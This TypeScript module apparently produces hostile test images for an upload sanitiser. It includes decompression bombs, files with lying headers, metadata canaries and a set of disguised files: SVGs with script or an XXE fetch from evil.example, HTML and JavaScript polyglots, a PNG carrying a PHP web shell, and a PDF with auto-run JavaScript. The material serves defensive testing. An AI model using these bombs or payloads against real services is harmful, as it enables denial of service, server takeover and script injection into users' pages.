// Pictures made to do harm: small files that unpack to gigabytes, headers that lie, two files in one coat, words beside the pixels.
import { deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { chunk, emptyZip } from './pictures.ts'

/** None of these may be found again in anything that was kept. */
export const canary = {
  make: 'CANARY-MAKE-4711',
  gps: 'CANARY-GPS-31.2001N-121.4702E',
  xmp: 'CANARY-XMP-OWNER',
  iptc: 'CANARY-IPTC-BYLINE',
  maker: 'CANARY-MAKERNOTE-SERIAL',
  thumb: 'CANARY-THUMBNAIL-BYTES',
  profile: 'CANARY-ICC-DEVICE',
  comment: 'CANARY-COMMENT-TEXT',
  behind: 'CANARY-BEHIND-THE-END',
} as const

const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const end = chunk('IEND', Buffer.alloc(0))

interface Header {
  width: number
  height: number
  /** Bits a sample. */
  depth?: number
  /** 0 grey, 2 RGB, 6 RGBA. */
  colour?: number
}

function pngHeader({ width, height, depth = 1, colour = 0 }: Header): Buffer {
  const body = Buffer.alloc(13)
  body.writeUInt32BE(width, 0)
  body.writeUInt32BE(height, 4)
  body.set([depth, colour, 0, 0, 0], 8)
  return chunk('IHDR', body)
}

/** `more`: chunks before the pixels. */
const png = (header: Header, rows: Buffer, ...more: Buffer[]): Buffer =>
  Buffer.concat([pngSignature, pngHeader(header), ...more, chunk('IDAT', rows), end])

/** Flawless, 30,000 × 30,000 of nothing. */
export const squareOfNothing = (): Buffer =>
  png({ width: 30_000, height: 30_000 }, deflateSync(Buffer.alloc((1 + 30_000 / 8) * 30_000)))

/** It says 30,000 × 30,000 in colour and holds one row. */
export const pngThatLies = (): Buffer =>
  png({ width: 30_000, height: 30_000, depth: 16, colour: 6 }, deflateSync(Buffer.alloc(30_000)))

const riff = (...parts: Buffer[]): Buffer => {
  const body = Buffer.concat([Buffer.from('WEBP', 'latin1'), ...parts])
  const length = Buffer.alloc(4)
  length.writeUInt32LE(body.length)
  return Buffer.concat([Buffer.from('RIFF', 'latin1'), length, body])
}
const riffPart = (name: string, body: Buffer): Buffer => {
  const length = Buffer.alloc(4)
  length.writeUInt32LE(body.length)
  return Buffer.concat([Buffer.from(name, 'latin1'), length, body, Buffer.alloc(body.length % 2)])
}
const three = (value: number): number[] => [value & 0xff, (value >> 8) & 0xff, (value >> 16) & 0xff]

/** VP8X: `flags` as the container has them, 2 for an animation. */
const canvas = (flags: number, width: number, height: number): Buffer =>
  riffPart('VP8X', Buffer.from([flags, 0, 0, 0, ...three(width - 1), ...three(height - 1)]))

/** The canvas it names would take a terabyte. */
export async function webpThatLies(): Promise<Buffer> {
  const { name, body } = await onePixel()
  return riff(canvas(0, 2 ** 24, 2 ** 24), riffPart(name, body))
}

/** One pixel as WebP without its container. */
async function onePixel(): Promise<{ name: string; body: Buffer }> {
  const whole = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#abc' } })
    .webp({ lossless: true })
    .toBuffer()
  return { name: whole.toString('latin1', 12, 16), body: whole.subarray(20, 20 + whole.readUInt32LE(16)) }
}

/** `frames` of one pixel each on a canvas that is large all the same. */
export async function webpFilm(frames: number): Promise<Buffer> {
  const { name, body } = await onePixel()
  const frame = riffPart(
    'ANMF',
    Buffer.concat([
      Buffer.from([...three(0), ...three(0), ...three(0), ...three(0), ...three(40), 0]),
      riffPart(name, body),
    ]),
  )
  const loop = riffPart('ANIM', Buffer.alloc(6))
  return riff(canvas(2, 4000, 4000), loop, ...Array.from({ length: frames }, () => frame))
}

export function gifFilm(frames: number): Buffer {
  const head = Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]),
  ])
  const frame = Buffer.from('21f90400000000002c000000000100010000020144' + '00', 'hex')
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')])
}

/** A profile, or a text, that unpacks to a hundred megabytes. */
const packedNothing = (): Buffer => deflateSync(Buffer.alloc(100 * 1024 * 1024))
export function pngWithPackedWords(): Buffer {
  const packed = packedNothing()
  const profile = chunk('iCCP', Buffer.concat([Buffer.from('p\0\0', 'latin1'), packed]))
  const text = chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), packed]))
  return png({ width: 64, height: 64, depth: 8 }, deflateSync(Buffer.alloc(65 * 64)), profile, text, text)
}

const flat = (width: number, height: number, channels: 3 | 4 = 3) =>
  sharp({ create: { width, height, channels, background: { r: 40, g: 90, b: 120, alpha: 0.5 } } })
const wide = { width: 8160, height: 6120 }

/** Each a whole picture of just under 50 megapixels, or one that says it is: what it costs to unpack is the harm. */
export const bombs: Record<string, () => Buffer | Promise<Buffer>> = {
  'PNG of 30,000 × 30,000': squareOfNothing,
  'PNG that says so and is not': pngThatLies,
  'PNG of 50 megapixels in passes': () => flat(wide.width, wide.height).png({ progressive: true }).toBuffer(),
  'PNG of 50 megapixels lying on its side': () =>
    flat(wide.width, wide.height, 4).withMetadata({ orientation: 6 }).png().toBuffer(),
  'PNG with a profile and texts of a hundred megabytes': pngWithPackedWords,
  'JPEG of 50 megapixels in passes': () =>
    flat(wide.width, wide.height).jpeg({ progressive: true, chromaSubsampling: '4:4:4' }).toBuffer(),
  'WebP that says it is a terabyte': webpThatLies,
  'WebP film of 10,000 frames': () => webpFilm(10_000),
  'GIF film of 10,000 frames': () => gifFilm(10_000),
  TIFF: () => flat(200, 100).tiff({ compression: 'deflate' }).toBuffer(),
  BigTIFF: () => flat(200, 100).tiff({ bigtiff: true }).toBuffer(),
  AVIF: () => flat(64, 64).avif({ effort: 0 }).toBuffer(),
}

/** A picture and beside it all that cameras, phones and their programs write. */
export async function talkative(format: 'jpeg' | 'png' | 'webp' | 'avif'): Promise<Buffer> {
  const exif = {
    IFD0: { Make: canary.make, Artist: canary.gps, ImageDescription: canary.comment },
    IFD2: { MakerNote: canary.maker, UserComment: canary.comment },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 12/1 3000/100', GPSAreaInformation: canary.gps },
  }
  const whole = await sharp({
    create: {
      ...{ width: 320, height: 240, channels: 3, background: '#6a7' },
      noise: { type: 'gaussian', mean: 120, sigma: 30 },
    },
  })
    .withIccProfile('p3')
    .withExif(exif)
    .withXmp(
      `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="${canary.xmp}"/></rdf:RDF></x:xmpmeta>`,
    )
    .toFormat(format)
    .toBuffer()
  if (format === 'jpeg') return withSegments(whole)
  if (format === 'png') return withChunks(whole)
  return whole
}

/** The same as an iPhone names it: no decoder of ours takes it. */
export async function heic(): Promise<Buffer> {
  const bytes = Buffer.from(await talkative('avif'))
  for (let at = bytes.indexOf('avif'); at !== -1 && at < 64; at = bytes.indexOf('avif', at + 4))
    bytes.write('heic', at, 'latin1')
  return bytes
}

const segment = (marker: number, ...parts: (string | Buffer)[]): Buffer => {
  const body = Buffer.concat(parts.map((part) => Buffer.from(part as string)))
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(body.length + 2, 2)
  return Buffer.concat([head, body])
}

/** IPTC, a preview, a maker's own segment and a comment behind the first marker; words behind the last. */
function withSegments(jpeg: Buffer): Buffer {
  const iptc = Buffer.concat([Buffer.from([0x1c, 2, 80, 0, canary.iptc.length]), Buffer.from(canary.iptc)])
  const size = Buffer.alloc(4)
  size.writeUInt32BE(iptc.length)
  const own = [
    segment(0xed, 'Photoshop 3.0\0', '8BIM', Buffer.from([4, 4, 0, 0]), size, iptc),
    segment(0xe0, 'JFXX\0', Buffer.from([0x10]), canary.thumb),
    segment(0xe2, 'MPF\0', canary.thumb),
    segment(0xe7, canary.maker),
    segment(0xe2, 'FPXR\0', canary.profile),
    segment(0xfe, canary.comment),
  ]
  return Buffer.concat([jpeg.subarray(0, 2), ...own, jpeg.subarray(2), Buffer.from(canary.behind)])
}

function withChunks(whole: Buffer): Buffer {
  const at = whole.length - end.length
  const own = [
    chunk('tEXt', Buffer.from(`Author\0${canary.comment}`, 'latin1')),
    chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${canary.xmp}`, 'latin1')),
    chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.from(canary.iptc))])),
    chunk('caNv', Buffer.from(canary.maker)),
  ]
  return Buffer.concat([whole.subarray(0, at), ...own, end, Buffer.from(canary.behind)])
}

const small = (format: 'jpeg' | 'png') =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: '#888' } })
    .toFormat(format)
    .toBuffer()

/** A page or a program that calls itself a picture. */
export const disguised: Record<string, () => Buffer | Promise<Buffer>> = {
  'SVG with a script': () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  'SVG that fetches': () =>
    Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "http://evil.example/e">]><svg xmlns="http://www.w3.org/2000/svg" ' +
        'xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://evil.example/p.png"/><text>&e;</text></svg>',
    ),
  'SVG packed': () =>
    Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), deflateRawSync(Buffer.from('<svg/>'))]),
  'JPEG and archive': async () => Buffer.concat([await small('jpeg'), emptyZip]),
  'JPEG and page': async () => Buffer.concat([await small('jpeg'), Buffer.from('<HTML><body onload=alert(1)>')]),
  'JPEG with a page as its comment': async () => {
    const whole = await small('jpeg')
    return Buffer.concat([
      whole.subarray(0, 2),
      segment(0xfe, '<!DocType html><script>alert(1)</script>'),
      whole.subarray(2),
    ])
  },
  'GIF and program': () => Buffer.from('GIF89a/*\x01\x00*/=1;alert(1)//'),
  'PNG and PHP': async () => Buffer.concat([await small('png'), Buffer.from('<?php system($_GET[0]); ?>')]),
  PDF: () => Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
}
